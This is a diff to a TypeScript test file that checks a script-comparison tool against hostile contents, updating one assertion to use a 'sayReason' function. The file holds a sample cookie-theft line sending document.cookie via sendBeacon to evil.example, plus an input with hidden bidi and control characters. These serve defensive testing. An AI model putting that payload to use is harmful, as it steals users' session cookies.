@@ -1,7 +1,7 @@
 // Guards that no content, however made, stops a comparison or takes the place of something else in it.
 import { assert, property, string } from 'fast-check'
 import { describe, expect, it } from 'vitest'
-import { compareScripts, learnVolatile, maskedEqual, matchScripts, sketchOf } from '#changes/index.ts'
+import { compareScripts, learnVolatile, maskedEqual, matchScripts, sayReason, sketchOf } from '#changes/index.ts'
 import { printOf } from '#changes/scripts/print-of.ts'
 
 const steal = 'navigator.sendBeacon("https://evil.example/c", document.cookie)'
@@ -63,7 +63,7 @@ describe('hostile contents', () => {
   it('put no line or control character into a reason', () => {
     const { reasons } = compareScripts('f("#email")', 'f("#cc-number\\u202e\\n\\u0007")')
     expect(reasons.length).toBeGreaterThan(0)
-    expect(reasons.every(({ sentence }) => !/[\p{Cc}\p{Cf}]/u.test(sentence))).toBe(true)
+    expect(reasons.every((reason) => !/[\p{Cc}\p{Cf}]/u.test(sayReason(reason, 'en')))).toBe(true)
   })
 })
 
